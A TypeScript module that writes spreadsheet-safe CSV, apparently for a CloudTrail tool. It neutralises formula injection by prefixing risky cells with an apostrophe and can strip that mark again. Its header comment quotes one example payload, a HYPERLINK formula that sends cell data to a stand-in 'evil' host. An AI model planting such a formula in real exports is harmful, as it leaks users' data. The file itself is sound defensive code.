import { Transform, type TransformCallback } from 'node:stream';

/**
 * RFC 4180 CSV for people who open it in a spreadsheet. Fields that contain a comma, a double quote, CR or LF are
 * quoted and quotes doubled; records end with CRLF; NULL is written as an empty field.
 *
 * Spreadsheet formulas (CWE-1236). Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with `=`,
 * `+`, `-` or `@` (and treat a leading tab, CR or NUL the same way), so a CloudTrail value such as
 * `=HYPERLINK("https://evil/?"&A1,"open")` in a user agent would run when the file is opened. Following OWASP "CSV
 * Injection" (and OWASP ASVS 5.0, 1.2.10) such a cell gets one `'` in front, which the spreadsheet reads as "this is
 * text". Spaces before the sign do not make it safe, nor do the full-width and small forms (`＝＋－＠`, `﹦﹢﹣﹫`) that
 * Excel folds into their ASCII signs with East Asian input, so they are handled as well. A plain number (`-3`,
 * `+1.5e3`) is data, not a formula, and stays as it is.
 *
 * The marking is reversible, so the exact values stay reachable: a cell that already starts with `'` also gets one
 * more. Every cell of the file that starts with `'` therefore carries exactly one added `'`, and removing it gives
 * the exact value (`exactValue`, `ExactCsv`, `npx trail … --csv-raw FILE`).
 */
const MARK = "'";

/** Characters that open a formula when a cell starts with them (after any whitespace). */
const FORMULA_SIGNS = '=+\\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B';
/** Whitespace a spreadsheet may skip before the sign: ASCII and Unicode spaces, tabs, CR, LF, NUL. */
const NEEDS_MARK = new RegExp(`^(?:[\\s\\u0000]*[${FORMULA_SIGNS}]|[\\t\\r\\n\\u0000]|${MARK})`, 'u');
/** A number as spreadsheets read one: data, never a formula. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** True when a spreadsheet could evaluate `value` as a formula (or it starts with the mark itself). */
export function needsFormulaMark(value: string): boolean {
  return NEEDS_MARK.test(value) && !PLAIN_NUMBER.test(value);
}

/** The text written into the file for `value`: `value` itself, or `'` + `value` when it needs the mark. */
export function spreadsheetSafe(value: string): string {
  return needsFormulaMark(value) ? MARK + value : value;
}

/** The exact value of a cell read from a trailbot CSV: one leading `'`, if any, is the mark. */
export function exactValue(cell: string): string {
  return cell.startsWith(MARK) ? cell.slice(1) : cell;
}

function quoted(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One field, spreadsheet-safe (`exact: true` writes the value as it is, for evidence files). */
export function csvField(value: string | null, o: { exact?: boolean } = {}): string {
  if (value === null) return '';
  return quoted(o.exact ? value : spreadsheetSafe(value));
}

export function csvRecord(values: readonly (string | null)[], o: { exact?: boolean } = {}): string {
  return `${values.map((v) => csvField(v, o)).join(',')}\r\n`;
}

/**
 * Turns a spreadsheet-safe CSV (as trailbot writes it) into the CSV of the exact values, as a stream: the one `'`
 * at the start of a field (right after its opening quote when quoted) is dropped, everything else is copied byte for
 * byte. Chunk boundaries may fall anywhere; the state carries over.
 */
export class ExactCsv extends Transform {
  private atFieldStart = true;
  private inQuotes = false;
  /** Just after a field's opening quote: the mark, if any, comes next. */
  private afterOpeningQuote = false;
  /** Inside quotes, just after a `"`: either the second half of `""` or the closing quote. */
  private quoteSeen = false;

  override _transform(chunk: Buffer | string, _encoding: BufferEncoding, done: TransformCallback): void {
    // `'`, `"`, `,`, CR and LF are ASCII, so they never occur inside a multi-byte UTF-8 sequence: working on bytes
    // is safe even when a chunk splits a character.
    const bytes = typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk;
    const out = Buffer.allocUnsafe(bytes.length);
    let n = 0;
    for (const b of bytes) {
      if (this.inQuotes) {
        if (this.afterOpeningQuote) {
          this.afterOpeningQuote = false;
          if (b === APOSTROPHE) continue;
        }
        if (this.quoteSeen) {
          this.quoteSeen = false;
          if (b !== QUOTE) {
            // That `"` closed the field; this byte is outside the quotes.
            this.inQuotes = false;
            this.atFieldStart = b === COMMA || b === LF;
            out[n++] = b;
            continue;
          }
        } else if (b === QUOTE) this.quoteSeen = true;
        out[n++] = b;
        continue;
      }
      if (this.atFieldStart) {
        this.atFieldStart = false;
        if (b === APOSTROPHE) continue;
        if (b === QUOTE) {
          this.inQuotes = true;
          this.afterOpeningQuote = true;
          out[n++] = b;
          continue;
        }
      }
      if (b === COMMA || b === LF) this.atFieldStart = true;
      out[n++] = b;
    }
    done(null, out.subarray(0, n));
  }
}

const APOSTROPHE = 0x27;
const QUOTE = 0x22;
const COMMA = 0x2c;
const LF = 0x0a;

/** Parses RFC 4180 text back into records (used by tests and to rebuild a summary after a restart). */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
      } else {
        field += c;
      }
      i += 1;
      continue;
    }
    if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += c;
    i += 1;
  }
  if (field !== '' || record.length > 0) {
    record.push(field);
    records.push(record);
  }
  return records;
}
